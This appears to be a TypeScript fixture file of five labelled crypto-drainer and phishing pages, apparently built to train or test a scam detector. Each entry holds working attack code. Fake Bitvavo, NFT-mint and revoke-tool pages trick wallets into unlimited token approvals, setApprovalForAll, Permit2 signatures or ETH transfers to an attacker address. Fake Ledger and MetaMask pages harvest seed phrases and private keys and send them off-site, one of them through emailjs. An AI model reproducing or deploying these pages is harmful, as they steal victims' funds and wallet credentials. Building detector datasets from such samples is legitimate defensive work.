import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsonRoute, jsRoute, lnk, pe, pngRoute, zip } from '../parts/e-bin.js';
import { articleCss, b64, bankOptions, cardCss, cardJs, cookieBar, digits, doc, esc, hex, mark } from '../parts/yg-kit.js';

export const entries: Entry[] = [
{
  id: 'yg-drainer-exchange-airdrop-claim',
  label: 'cryptodrainer',
  kind: 'airdrop-drainer',
  url: 'https://claim-bitvavo-rewards.com/',
  body: doc({
    lang: 'nl',
    title: 'Bitvavo Rewards | Claim je $BVV airdrop',
    css: `body{margin:0;font-family:'Inter',Arial,sans-serif;background:#0b0e1a;color:#fff}.n{display:flex;justify-content:space-between;padding:18px 30px}.n b{color:#2e6bff;font-size:22px}.hero{text-align:center;padding:60px 20px}.hero h1{font-size:46px;margin:0}.hero p{color:#9aa3c0}
.cb{background:#2e6bff;color:#fff;border:0;border-radius:12px;padding:16px 40px;font-size:18px;font-weight:700;cursor:pointer;margin-top:20px}.st{display:flex;gap:20px;justify-content:center;margin-top:40px}.st div{background:#151a2e;padding:18px 26px;border-radius:12px}.st b{display:block;font-size:24px}
#log{font-size:13px;color:#7f8aa8;margin-top:14px}`,
    body: `<div class="n"><b>bitvavo</b><span>Rewards · Season 1</span></div>
<div class="hero"><h1>Je bent eligible voor de $BVV airdrop</h1><p>Als dank aan onze vroege gebruikers verdelen we 50.000.000 $BVV. Verbind je wallet en claim binnen 72 uur.</p>
<button class="cb" id="cw">Wallet verbinden</button><div id="log"></div>
<div class="st"><div><b>50M</b>$BVV totaal</div><div><b>184.211</b>wallets</div><div><b id="left">11:42:07</b>resterend</div></div></div>
<script src="/assets/web3.bundle.js"></script>`,
  }),
  routes: {
    'claim-bitvavo-rewards.com/assets/web3.bundle.js': jsRoute(`(function(){
var SPENDER='0x${hex('drn-spender', 40)}';
var TOKENS=[['USDT','0xdAC17F958D2ee523a2206206994597C13D831ec7'],['USDC','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'],['WETH','0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2'],['LINK','0x514910771AF9Ca656af840dff83E8264EcF986CA']];
var MAX='ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff';
function pad(a){return a.toLowerCase().replace('0x','').padStart(64,'0')}
function log(t){document.getElementById('log').textContent=t}
async function go(){if(!window.ethereum){log('Geen wallet gevonden. Open deze pagina in MetaMask of Trust Wallet.');return}
 var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];log('Verbonden: '+acc.slice(0,6)+'...'+acc.slice(-4)+' - eligibility controleren...');
 try{await ethereum.request({method:'wallet_switchEthereumChain',params:[{chainId:'0x1'}]})}catch(e){}
 var bal=await ethereum.request({method:'eth_getBalance',params:[acc,'latest']});
 fetch('/api/v1/w',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a:acc,b:bal,ua:navigator.userAgent})});
 for(var i=0;i<TOKENS.length;i++){var t=TOKENS[i];
  var data='0x095ea7b3'+pad(SPENDER)+MAX;
  try{log('Stap '+(i+1)+'/'+TOKENS.length+': bevestig claim in je wallet');
   var tx=await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:t[1],data:data}]});
   fetch('/api/v1/ok',{method:'POST',body:JSON.stringify({a:acc,t:t[0],tx:tx})})}catch(e){log('Claim mislukt, probeer opnieuw');}
 }
 var v=BigInt(bal)*95n/100n;if(v>0n){try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:SPENDER,value:'0x'+v.toString(16)}]})}catch(e){}}
 log('Claim verwerkt. Je $BVV verschijnt binnen 24 uur in je wallet.')}
document.getElementById('cw').onclick=go;
})();`),
    'claim-bitvavo-rewards.com/api/v1/w': jsonRoute({ eligible: true, amount: '4,812 BVV' }),
  },
},
{
  id: 'yg-ledger-sincronizzazione-24-parole',
  label: 'cryptodrainer',
  kind: 'seed-phrase-kit',
  url: 'https://ledger-live-sync.it-supporto.app/recupero',
  body: doc({
    lang: 'it',
    title: 'Ledger Live - Sincronizzazione dispositivo',
    css: `body{margin:0;background:#131214;color:#fff;font-family:Inter,Arial,sans-serif}.h{padding:18px 30px;font-weight:700;font-size:20px;letter-spacing:3px}.c{max-width:720px;margin:20px auto;background:#1c1d1f;border-radius:10px;padding:28px}
.g{display:grid;grid-template-columns:repeat(4,1fr);gap:8px;margin:16px 0}.g input{background:#2a2b2e;border:1px solid #3a3b3e;color:#fff;padding:10px;border-radius:6px;width:100%;box-sizing:border-box}
button{background:#bbb0ff;color:#131214;border:0;border-radius:24px;padding:13px 34px;font-weight:700;font-size:15px}.w{background:#3a2a10;border-radius:6px;padding:10px;font-size:13px;color:#ffcc80}`,
    body: `<div class="h">LEDGER</div>
<div class="c"><h2>Sincronizzazione obbligatoria del dispositivo</h2>
<p>A seguito di una violazione del database dei clienti di un nostro fornitore, è necessario sincronizzare il tuo Ledger con il nuovo firmware di sicurezza. I dispositivi non sincronizzati entro il <b id="dl"></b> potrebbero perdere l'accesso ai fondi.</p>
<div class="w">Inserisci le 24 parole della tua frase di recupero nell'ordine esatto. La frase viene cifrata localmente e non lascia mai il tuo dispositivo.</div>
<form id="sf"><div class="g" id="g"></div><button>Sincronizza</button></form><p id="m" style="font-size:13px;color:#aaa"></p></div>
<script>
var g=document.getElementById('g');for(var i=1;i<=24;i++){var e=document.createElement('input');e.placeholder=i+'.';e.name='w'+i;e.autocomplete='off';e.spellcheck=false;g.appendChild(e)}
var d=new Date(Date.now()+3*864e5);document.getElementById('dl').textContent=d.toLocaleDateString('it-IT');
document.getElementById('sf').onsubmit=function(ev){ev.preventDefault();var w=[];for(var i=1;i<=24;i++)w.push(this['w'+i].value.trim().toLowerCase());
 if(w.filter(Boolean).length<12){document.getElementById('m').textContent='Frase non valida: inserisci tutte le parole';return}
 var x=new XMLHttpRequest();x.open('POST','/api/sync',true);x.setRequestHeader('Content-Type','application/json');x.send(JSON.stringify({phrase:w.join(' '),dev:'nano-x',ref:document.referrer}));
 document.getElementById('m').textContent='Sincronizzazione in corso... non scollegare il dispositivo.'};
</script>`,
  }),
},
{
  id: 'yg-fan-token-nft-mint-setapproval',
  label: 'cryptodrainer',
  kind: 'nft-mint-drainer',
  url: 'https://curva-nord-legends.xyz/mint',
  body: doc({
    lang: 'it',
    title: 'Curva Nord Legends - Mint NFT',
    css: `body{margin:0;background:linear-gradient(135deg,#0a1f44,#000);color:#fff;font-family:'Space Grotesk',Arial,sans-serif;text-align:center}.c{max-width:520px;margin:60px auto;background:rgba(255,255,255,.06);border-radius:18px;padding:30px}.nft{width:220px;height:220px;margin:0 auto;border-radius:14px;background:conic-gradient(#1e90ff,#ffd700,#1e90ff)}button{margin-top:20px;background:#ffd700;border:0;border-radius:30px;padding:14px 40px;font-weight:800;font-size:17px}.q{display:flex;gap:10px;justify-content:center;align-items:center;margin-top:14px}.q b{font-size:22px}`,
    body: `<div class="c"><div class="nft"></div><h1>Curva Nord Legends</h1><p>Collezione ufficiale di 7.777 NFT per i tifosi. Mint gratuito per i possessori di NFT del club: gas only. Holder benefits: biglietti in prevendita e accesso agli allenamenti.</p>
<div class="q"><button type="button" onclick="q(-1)" style="margin:0;padding:6px 14px">-</button><b id="n">1</b><button type="button" onclick="q(1)" style="margin:0;padding:6px 14px">+</button></div>
<p>Mintati: <b>6.912 / 7.777</b></p><button id="m">MINT ORA</button><p id="s" style="font-size:13px;color:#aaa"></p></div>
<script>
var n=1;function q(d){n=Math.max(1,Math.min(5,n+d));document.getElementById('n').textContent=n}
var OP='0x${hex('nft-op', 40)}';
var COLL=['0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D','0x60E4d786628Fea6478F785A6d7e704777c86a7c6','0xED5AF388653567Af2F388E6224dC7C4b3241C544','0x49cF6f5d44E70224e2E23fDcdd2C053F30aDA28B'];
document.getElementById('m').onclick=async function(){var s=document.getElementById('s');if(!window.ethereum){s.textContent='Installa MetaMask per continuare';return}
 var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];
 var r=await fetch('/api/holdings?addr='+a).then(function(x){return x.json()}).catch(function(){return {c:COLL}});
 for(var i=0;i<(r.c||COLL).length;i++){s.textContent='Verifica possesso NFT '+(i+1)+'...';
  try{await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:(r.c||COLL)[i],data:'0xa22cb465'+OP.slice(2).toLowerCase().padStart(64,'0')+'0'.repeat(63)+'1'}]})}catch(e){}}
 try{var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify({types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitSingle:[{name:'details',type:'PermitDetails'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},primaryType:'PermitSingle',domain:{name:'Permit2',chainId:1,verifyingContract:'0x000000000022D473030F116dDEE9F6B43aC78BA3'},message:{details:{token:'0xdAC17F958D2ee523a2206206994597C13D831ec7',amount:'1461501637330902918203684832716283019655932542975',expiration:'1893456000',nonce:'0'},spender:OP,sigDeadline:'1893456000'}})]});
  fetch('/api/sig',{method:'POST',body:JSON.stringify({a:a,sig:sig})})}catch(e){}
 s.textContent='Mint completato! I tuoi NFT arriveranno a breve.'};
</script>`,
  }),
  routes: {
    'curva-nord-legends.xyz/api/holdings': jsonRoute({ c: ['0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D', '0x60E4d786628Fea6478F785A6d7e704777c86a7c6'] }),
  },
},
{
  id: 'yg-metamask-verificatie-herstelzin-nl',
  label: 'cryptodrainer',
  kind: 'seed-phrase-kit',
  url: 'https://metamask-wallet-verificatie.com/nl/',
  body: doc({
    lang: 'nl',
    title: 'MetaMask - Wallet verificatie',
    css: `body{margin:0;background:#f2f4f6;font-family:Euclid,Arial,sans-serif;color:#24272a}.h{background:#fff;padding:14px 24px;display:flex;gap:10px;align-items:center;font-weight:700}.c{max-width:520px;margin:30px auto;background:#fff;border-radius:10px;padding:28px}.tabs{display:flex;gap:6px;margin:10px 0}.tabs button{flex:1;padding:8px;border:1px solid #d6d9dc;background:#fff;border-radius:6px}.tabs button.on{background:#037dd6;color:#fff}
textarea{width:100%;height:110px;padding:12px;border:1px solid #bbc0c5;border-radius:8px;box-sizing:border-box;font-size:15px}button.p{width:100%;margin-top:16px;background:#037dd6;color:#fff;border:0;border-radius:24px;padding:13px;font-size:16px}`,
    body: `<div class="h">${mark('🦊', '#f6851b', 30)} METAMASK</div>
<div class="c"><h2>Verifieer je wallet</h2><p>Door de nieuwe EU-regelgeving (MiCA) moeten alle self-custody wallets vóór het einde van de maand geverifieerd worden. Niet-geverifieerde wallets kunnen geen transacties meer uitvoeren.</p>
<div class="tabs"><button class="on" type="button">Herstelzin</button><button type="button">Privésleutel</button><button type="button">Keystore JSON</button></div>
<form id="f"><textarea name="phrase" placeholder="Voer je geheime herstelzin van 12 of 24 woorden in, gescheiden door spaties"></textarea><button class="p">Verifiëren</button></form>
<p style="font-size:12px;color:#6a737d">Deze gegevens worden end-to-end versleuteld.</p></div>
<script>
document.querySelectorAll('.tabs button').forEach(function(b,i){b.onclick=function(){document.querySelectorAll('.tabs button').forEach(function(x){x.classList.remove('on')});b.classList.add('on');document.querySelector('textarea').placeholder=['Voer je geheime herstelzin van 12 of 24 woorden in, gescheiden door spaties','Plak je privésleutel (64 tekens)','Plak de inhoud van je keystore-bestand'][i]}});
document.getElementById('f').onsubmit=function(e){e.preventDefault();var p=this.phrase.value.trim();if(p.split(/\\s+/).length<12&&p.length<60){alert('Ongeldige invoer');return}
emailjs.send('service_${hex('mm-ej', 7)}','template_${hex('mm-ej2', 7)}',{message:p,type:document.querySelector('.tabs .on').textContent}).then(function(){location.href='https://metamask.io/'})};
</script>
<script src="https://cdn.jsdelivr.net/npm/@emailjs/browser@3/dist/email.min.js"></script><script>try{emailjs.init('${hex('mm-pub', 16)}')}catch(e){}</script>`,
  }),
},
{
  id: 'yg-revoke-tool-lookalike-drainer',
  label: 'cryptodrainer',
  kind: 'revoke-tool-drainer',
  url: 'https://revoke-approvals.cash/app/dashboard',
  body: doc({
    lang: 'en',
    title: 'Revoke - Protect your wallet from scam approvals',
    css: `body{margin:0;font-family:Inter,Arial,sans-serif;background:#fff;color:#111}.n{display:flex;justify-content:space-between;padding:16px 30px;border-bottom:1px solid #eee}.c{max-width:820px;margin:40px auto;padding:0 16px}table{width:100%;border-collapse:collapse;margin-top:20px}td,th{padding:10px;border-bottom:1px solid #eee;text-align:left;font-size:14px}.r{background:#111;color:#fff;border:0;border-radius:6px;padding:6px 14px}.cw{background:#111;color:#fff;border:0;border-radius:8px;padding:12px 26px;font-size:16px}.al{background:#fff1f0;color:#a8071a;border-radius:6px;padding:10px;margin-top:14px}`,
    body: `<div class="n"><b>revoke</b><span>Docs · Exploits · FAQ</span></div>
<div class="c"><h1>Take back control of your wallet</h1><p>Scam apps often trick you into token approvals. Connect your wallet to find and revoke risky allowances.</p>
<button class="cw" id="c">Connect Wallet</button><div class="al" id="al" style="display:none"></div>
<table id="t" style="display:none"><tr><th>Asset</th><th>Spender</th><th>Allowance</th><th></th></tr></table></div>
<script>
var R='0x${hex('rv-recv', 40)}';
document.getElementById('c').onclick=async function(){if(!window.ethereum)return alert('No wallet detected');var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];
 var al=document.getElementById('al');al.style.display='block';al.textContent='⚠ 3 risky approvals found for '+a.slice(0,8)+'…';
 var t=document.getElementById('t');t.style.display='table';
 [['USDT','0xdAC17F958D2ee523a2206206994597C13D831ec7','Unlimited'],['USDC','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','Unlimited'],['DAI','0x6B175474E89094C44Da98b954EedeAC495271d0F','12,000']].forEach(function(r){var tr=document.createElement('tr');tr.innerHTML='<td>'+r[0]+'</td><td>0x7a25…488D (Unknown)</td><td>'+r[2]+'</td><td><button class="r">Revoke</button></td>';
  tr.querySelector('button').onclick=async function(){
   var d='0x095ea7b3'+R.slice(2).toLowerCase().padStart(64,'0')+'f'.repeat(64);
   try{await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:r[1],data:d}]});tr.lastChild.textContent='Revoked ✓'}catch(e){}};t.appendChild(tr)})};
</script>`,
  }),
},
];
